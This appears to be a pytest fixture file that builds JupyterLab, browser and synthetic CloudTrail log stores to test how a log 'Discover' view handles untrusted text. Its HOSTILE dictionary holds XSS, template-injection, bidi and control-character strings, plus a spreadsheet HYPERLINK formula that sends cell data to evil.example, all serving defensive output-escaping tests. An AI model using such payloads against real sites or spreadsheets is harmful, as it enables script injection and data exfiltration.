"""A JupyterLab, a browser, and stores of made-up logs, for the tests of Discover."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser

from siemlab.normalize.document import Document
from siemlab.store import open_store
from tests.bench.synthetic import documents
from tests.browser.discovering import ROOT, chromium, jupyter_module, write_notebook

DOCUMENTS = 2_000

HOSTILE = {
    "markup": "<script>window.__pwned = 1</script>",
    "image": '<img src=x onerror="window.__pwned = 2">',
    "attribute": '"><svg onload="window.__pwned = 3">',
    "link": "javascript:window.__pwned=4",
    "bidi": "invoice\u202egpj.exe\u2066\u2069\u200b",
    "control": "bell\u0007 escape\u001b[31m nul\u0000 line\u2028end",
    "formula": '=HYPERLINK("http://evil.example/?"&A1;"click")',
    "template": "${alert(1)} {{constructor.constructor('window.__pwned=5')()}}",
    "japanese": "東京リージョンの請求書\u3000（至急）",
}
"""What an attacker could put into a user agent, and people's own writing."""


def hostile_documents() -> Iterator[Document]:
    """One document for each hostile text, in value, list and field name; and a long one."""
    for number, (name, text) in enumerate(HOSTILE.items()):
        yield _document(number, name, text, {"note": [text, "second"], f"key {text[:40]}": "x"})
    yield _document(50, "long", "x" * 1_000_000 + "END", {})


def _document(number: int, name: str, text: str, more: dict[str, Any]) -> Document:
    source = {
        "@timestamp": f"2023-02-14T03:{number:02d}:00.000Z",
        "@id": f"hostile-{name}",
        "@log_type": "cloudtrail",
        "event": {"action": name, "module": "s3.amazonaws.com", "outcome": "success"},
        "user": {"name": text[:200]},
        "user_agent": {"original": text},
        "requestParameters": more,
    }
    return Document("log-aws-cloudtrail-2023", f"hostile-{name}", source)


@pytest.fixture(scope="session")
def logs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of some thousand CloudTrail events of ninety days, and a few VPC flow records."""
    return _stored(tmp_path_factory.mktemp("logs") / "store", every_document())


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A store of documents that try to be more than text."""
    return _stored(tmp_path_factory.mktemp("hostile") / "store", hostile_documents())


def every_document() -> Iterator[Document]:
    yield from documents(DOCUMENTS)
    for number, document in enumerate(documents(40, seed=2)):
        yield replace(
            document,
            index="log-aws-vpcflowlogs-2023",
            source={**document.source, "destination": {"port": 1000 + number}},
        )


def _stored(folder: Path, listed: Iterator[Document]) -> Path:
    store = open_store(folder)
    store.add(listed)
    store.close()
    return folder


@pytest.fixture(scope="module")
def lab_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A running JupyterLab that shows an empty folder."""
    folder = tmp_path_factory.mktemp("discover")
    (folder / "home").mkdir()
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("PYTHONPATH", str(ROOT))
        with jupyter_module().Jupyter(folder, folder / "home") as running:
            yield running


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as running:
        yield running


@pytest.fixture(scope="module")
def notebook(lab_server: Any) -> Any:
    """Write a notebook into the folder that JupyterLab shows; its name."""

    def write(name: str, *cells: str) -> str:
        write_notebook(Path(lab_server.root) / name, *cells)
        return name

    return write
